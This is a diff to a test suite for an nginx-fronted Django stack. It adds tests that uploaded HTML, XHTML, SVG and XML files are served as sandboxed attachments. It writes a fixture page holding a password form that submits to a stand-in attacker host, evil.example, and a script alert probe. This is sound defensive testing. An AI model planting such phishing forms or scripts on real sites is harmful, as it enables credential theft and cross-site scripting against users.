@@ -27,6 +27,7 @@ import { nginxVersion } from "./stackup";
 useHarness();
 
 const TLS_EDGE = { tls: { mode: "files", certificatePath: "/etc/ssl/djangostack/fullchain.pem", keyPath: "/etc/ssl/djangostack/privkey.pem" } };
+const ACTIVE_UPLOADS = ["evil.html", "evil.HTM", "evil.xhtml", "evil.svg", "evil.xml"];
 const PORT = { echo: 18800, localHttp: 18801, tlsHttp: 18802, tlsHttps: 18803, lbHttp: 18804, spare: 18805 };
 const DOMAIN = "djangostack.test";
 const LB = "127.0.0.2";
@@ -94,6 +95,7 @@ before(async () => {
     fs.mkdirSync(path.join(mediaDir, app), { recursive: true });
     fs.writeFileSync(path.join(staticDir, app, "app.css"), "body{}\n");
     fs.writeFileSync(path.join(mediaDir, app, "photo.png"), "not really a png\n");
+    for (const f of ACTIVE_UPLOADS) fs.writeFileSync(path.join(mediaDir, app, f), '<html><form action="https://evil.example/"><input name="password"></form><script>alert(1)</script></html>\n');
   }
   const cert = await selfSignedCert(path.join(files, "certs"), DOMAIN);
   chownR(files, nginxUser());
@@ -254,5 +256,26 @@ describe("item 5: HSTS on every HTTPS response, also behind the load balancer, w
     const responses = [await tlsGet({ path: "/" }), await tlsGet({ path: "/static/web/app.css" }), await tlsGet({ path: "/media/web/photo.png" }), await tlsGet({ path: "/static/web/nope.css" }), await tlsGet({ path: "/", headers: [TOO_BIG] })];
     assert.deepEqual(responses.map((r) => r.status), [200, 200, 200, 404, 413]);
     for (const r of responses) assert.deepEqual(hsts(r), ["max-age=31536000; includeSubDomains; preload"], `status ${r.status}`);
+  });
+});
+
+describe("item 6: uploaded active documents cannot run, submit or render inline", () => {
+  test("HTML, XHTML, SVG and XML uploads: attachment, CSP default-src 'none'; sandbox, nosniff (TLS and load-balanced)", async () => {
+    for (const f of ACTIVE_UPLOADS) {
+      for (const r of [await tlsGet({ path: `/media/web/${f}` }), await rawRequest({ port: PORT.lbHttp, from: LB, host: "shop.example.com", path: `/media/shop/${f}` })]) {
+        assert.equal(r.status, 200, f);
+        assert.deepEqual(r.headers["content-disposition"], ["attachment"], f);
+        assert.deepEqual(r.headers["content-security-policy"], ["default-src 'none'; sandbox"], f);
+        assert.deepEqual(r.headers["x-content-type-options"], ["nosniff"], f);
+      }
+    }
+  });
+
+  test("an image upload stays inline, still under the sandboxing CSP", async () => {
+    const r = await tlsGet({ path: "/media/web/photo.png" });
+    assert.equal(r.status, 200);
+    assert.deepEqual(r.headers["content-type"], ["image/png"]);
+    assert.equal(r.headers["content-disposition"], undefined);
+    assert.deepEqual(r.headers["content-security-policy"], ["default-src 'none'; sandbox"]);
   });
 });
